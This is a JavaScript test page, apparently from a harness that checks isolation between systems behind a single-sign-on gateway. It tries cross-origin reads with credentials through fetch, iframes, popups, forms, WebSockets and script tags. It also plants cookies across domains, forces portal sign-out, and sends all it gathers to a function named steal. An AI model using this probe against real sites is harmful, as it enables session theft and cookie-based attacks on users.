// A page of one system reaches for another system of the same cadre, and for the portal.
holdForm();
addEventListener("load", async () => {
  const dummy = await dummyOf();
  await signIn(dummy);
  const other = location.origin.replace("cross", "victim");
  const got = [];
  const framed = (src, make) => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.name = `frame${Math.random()}`;
    if (src) frame.src = src;
    document.body.append(frame);
    if (make) make(frame.name);
    let loads = 0;
    frame.onload = () => { loads += 1; if (src || loads > 1) { got.push(attempt(() => frame.contentDocument.documentElement.outerHTML)); done(); } };
    setTimeout(done, 1200);
  });
  const formed = (action, fields, enctype = "application/x-www-form-urlencoded") => framed("", (target) => {
    const form = Object.assign(document.createElement("form"), { method: "post", action, target, enctype });
    for (const [name, value] of Object.entries(fields)) form.append(Object.assign(document.createElement("input"), { name, value }));
    document.body.append(form);
    form.submit();
  });
  const opened = async (address) => {
    const view = open(address);
    await pause(1500);
    got.push(await attempt(() => view.document.documentElement.outerHTML));
    view.postMessage({ type: "fill", dummy }, "*");
    view.close();
  };
  const reads = [`${other}/shown/text`, `${other}/victim/login`, `${other}/.yimen/open`, `${portal}/`, `${portal}/accounts`, `${portal}/api/me`];
  const modes = [{ credentials: "include" }, { credentials: "include", mode: "no-cors" }, { credentials: "include", method: "POST", mode: "no-cors", body: "a=b" }];
  for (const cookie of ["yimen-gateway=x", "yimen-session=x", "yimen-filled=x", "yimen-gateway-sign-in=a.b.%2F"]) {
    for (const domain of ["", "; domain=localhost", `; domain=${county}`, `; domain=gw.${county}`, `; domain=${new URL(other).hostname}`]) document.cookie = `${cookie}; path=/store${domain}`;
  }
  try { document.domain = county; } catch (error) { got.push(String(error)); }
  await Promise.all([
    ...reads.flatMap((address) => modes.map(async (mode) => got.push(await attempt(async () => (await fetch(address, mode)).text())))),
    framed(`${other}/victim/login`), framed(`${other}/.yimen/open`), framed(`${portal}/accounts`),
    formed(`${other}/victim/login`, { username: user, password: dummy }),
    formed(`${other}/store/refused`, { username: user, password: dummy }, "text/plain"),
    formed(`${portal}/launch/victim`, {}), formed(`${portal}/sign-out`, {}),
    opened(`${other}/victim/login`), opened(`${portal}/accounts`),
    new Promise((done) => { const socket = new WebSocket(`${other.replace("http", "ws")}/store/socket`); socket.onmessage = (event) => got.push(event.data); socket.onclose = done; }),
    new Promise((done) => { const script = Object.assign(document.createElement("script"), { src: `${other}/shown/script`, onload: done, onerror: done }); document.head.append(script); }),
    new Promise((done) => { const image = new Image(); image.onload = image.onerror = done; image.src = `${other}/shown/picture`; }),
  ]);
  got.push(window.got, document.cookie);
  await steal("other", JSON.stringify(await Promise.all(got)));
  document.title = "done";
});
